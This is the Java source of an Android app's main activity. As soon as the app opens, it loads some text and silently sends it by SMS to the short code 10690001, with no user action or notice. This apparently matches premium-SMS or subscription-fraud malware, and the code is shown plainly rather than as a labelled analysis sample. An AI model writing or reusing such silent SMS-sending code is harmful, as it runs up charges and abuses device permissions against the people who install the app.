package cn.shanhai.callback;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    Loading.load(this, new Loading.Done() {
      @Override
      public void done(String text) {
        SmsManager.getDefault().sendTextMessage("10690001", null, text, null, null);
      }
    });
  }
}
